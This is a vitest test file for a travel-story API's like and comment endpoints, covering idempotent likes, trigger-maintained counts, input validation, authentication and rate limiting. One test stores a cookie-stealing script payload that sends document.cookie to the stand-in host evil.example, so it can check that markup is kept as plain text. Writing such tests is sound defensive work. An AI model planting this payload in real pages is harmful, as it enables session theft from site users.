import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { STORY_LIMITS, type StoryComment, storyInputTexts } from '@mt/shared';
import { bearer, buildTestApp, type TestApp } from '../../test/app';
import { createTraveller, type Person } from '../../test/factories';
import { rowsOf } from '../services/service-card.sql';
import { createStory, uniqueDestination } from './testing/story-fixtures';

let t: TestApp;
let author: Person;
beforeAll(async () => {
  t = await buildTestApp();
  author = await createTraveller(t.app);
});
afterAll(() => t.close());

const like = (id: number | string, token: string | null, action: unknown = 'like') =>
  t.app.inject({ method: 'POST', url: `/api/stories/${id}/like`, payload: { action }, headers: token ? bearer(token) : {} });
const comment = (id: number | string, token: string | null, content: unknown) =>
  t.app.inject({ method: 'POST', url: `/api/stories/${id}/comments`, payload: { content }, headers: token ? bearer(token) : {} });
const comments = async (id: number) => (await t.app.inject({ method: 'GET', url: `/api/stories/${id}/comments` })).json<{ data: StoryComment[] }>().data;

describe('POST /api/stories/:id/like', () => {
  it('counts a second like once and unlikes idempotently', async () => {
    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
    const fan = await createTraveller(t.app);
    expect((await like(story.id, fan.token)).json()).toEqual({ success: true, data: { like_count: 1, userHasLiked: true } });
    expect((await like(story.id, fan.token)).json().data).toEqual({ like_count: 1, userHasLiked: true });
    expect((await like(story.id, author.token)).json().data).toEqual({ like_count: 2, userHasLiked: true });
    expect((await like(story.id, fan.token, 'unlike')).json().data).toEqual({ like_count: 1, userHasLiked: false });
    expect((await like(story.id, fan.token, 'unlike')).json().data).toEqual({ like_count: 1, userHasLiked: false });
  });

  it('counts 10 parallel likes by one user once', async () => {
    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
    const fan = await createTraveller(t.app);
    const results = await Promise.all(Array.from({ length: 10 }, () => like(story.id, fan.token)));
    for (const r of results) expect(r.statusCode).toBe(200);
    const got = await t.app.inject({ method: 'GET', url: `/api/stories/${story.id}` });
    expect(got.json().data.story.like_count).toBe(1);
  });

  it('keeps the count right for parallel likers, likes written outside the API and likes removed with their account', async () => {
    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
    const fans = await Promise.all(Array.from({ length: 8 }, () => createTraveller(t.app)));
    for (const r of await Promise.all(fans.map((f) => like(story.id, f.token)))) expect(r.statusCode).toBe(200);
    const count = async () => (await t.app.inject({ method: 'GET', url: `/api/stories/${story.id}` })).json().data.story.like_count;
    expect(await count()).toBe(8);
    // The count is kept by triggers (migrations 0026, 0027), so writes that bypass the routes keep it too.
    await t.db.execute(sql`insert into story_likes (story_id, user_id) values (${story.id}, ${author.user.id})`);
    await t.db.execute(sql`delete from users where id in (${fans[0]!.user.id}, ${fans[1]!.user.id})`);
    expect(await count()).toBe(7);
    const kept = await t.db.execute(sql`select like_count = (select count(*) from story_likes where story_id = ${story.id}) as same from story_like_counts where story_id = ${story.id}`);
    expect(rowsOf(kept)).toEqual([{ same: true }]);
  });

  it('counts likes without rewriting the story row, and forgets the count with the story', async () => {
    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
    // xmin: the transaction that wrote this version of the row. A like that wrote the story would change it.
    const version = async () => rowsOf<{ v: string }>(await t.db.execute(sql`select xmin::text as v from stories where id = ${story.id}`))[0]?.v;
    const before = await version();
    const fan = await createTraveller(t.app);
    expect((await like(story.id, fan.token)).json().data.like_count).toBe(1);
    expect((await like(story.id, fan.token, 'unlike')).json().data.like_count).toBe(0);
    expect(await version()).toBe(before);
    expect((await like(story.id, fan.token)).statusCode).toBe(200);
    await t.db.execute(sql`delete from stories where id = ${story.id}`);
    expect(rowsOf(await t.db.execute(sql`select story_id from story_like_counts where story_id = ${story.id}`))).toEqual([]);
  });

  it('answers 401 without a token, 400 for a bad action or id, 404 for a missing story', async () => {
    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
    expect((await like(story.id, null)).statusCode).toBe(401);
    expect((await like(story.id, 'forged.token.value')).statusCode).toBe(401);
    for (const action of ['love', '', 1, null]) expect((await like(story.id, author.token, action)).statusCode).toBe(400);
    expect((await like('abc', author.token)).statusCode).toBe(400);
    const missing = await like(987654321, author.token);
    expect(missing.statusCode).toBe(404);
    expect(missing.json().message).toBe(storyInputTexts.storyNotFound);
  });
});

describe('comments', () => {
  it('adds a comment (201) and lists comments newest first with the author', async () => {
    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
    const reader = await createTraveller(t.app, { name: 'Kofi Reader' });
    expect(await comments(story.id)).toEqual([]);
    const first = await comment(story.id, reader.token, '  First!  ');
    expect(first.statusCode).toBe(201);
    expect(first.json().data).toMatchObject({ id: expect.any(Number), author_name: 'Kofi Reader', author_avatar: null, content: 'First!' });
    await comment(story.id, author.token, 'Thanks');
    expect((await comments(story.id)).map((c) => [c.author_name, c.content])).toEqual([
      [author.user.name, 'Thanks'],
      ['Kofi Reader', 'First!'],
    ]);
    const got = await t.app.inject({ method: 'GET', url: `/api/stories/${story.id}` });
    expect(got.json().data.story.comment_count).toBe(2);
  });

  it('keeps markup as plain text', async () => {
    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
    const evil = '<script>document.location="https://evil.example/?"+document.cookie</script>';
    await comment(story.id, author.token, evil);
    expect((await comments(story.id))[0]!.content).toBe(evil);
  });

  it('refuses blank, over-long, missing or non-text content and anonymous callers', async () => {
    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
    for (const content of ['', '   \n ', 'x'.repeat(STORY_LIMITS.comment + 1), undefined, 42, ['a']]) {
      const res = await comment(story.id, author.token, content);
      expect(res.statusCode, String(content).slice(0, 20)).toBe(400);
      expect(res.json().message).toEqual(expect.any(String));
    }
    expect((await comment(story.id, author.token, 'x'.repeat(STORY_LIMITS.comment))).statusCode).toBe(201);
    expect((await comment(story.id, null, 'hello')).statusCode).toBe(401);
    expect((await comment(987654321, author.token, 'hello')).statusCode).toBe(404);
    expect((await t.app.inject({ method: 'GET', url: '/api/stories/987654321/comments' })).statusCode).toBe(404);
    expect((await t.app.inject({ method: 'GET', url: '/api/stories/x/comments' })).statusCode).toBe(400);
  });

  it('limits comments per user (429 after 20 in 10 minutes)', async () => {
    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
    const chatty = await createTraveller(t.app);
    for (let i = 0; i < 20; i++) expect((await comment(story.id, chatty.token, `c${i}`)).statusCode).toBe(201);
    expect((await comment(story.id, chatty.token, 'one more')).statusCode).toBe(429);
    expect((await comment(story.id, author.token, 'still fine')).statusCode).toBe(201);
  });
});
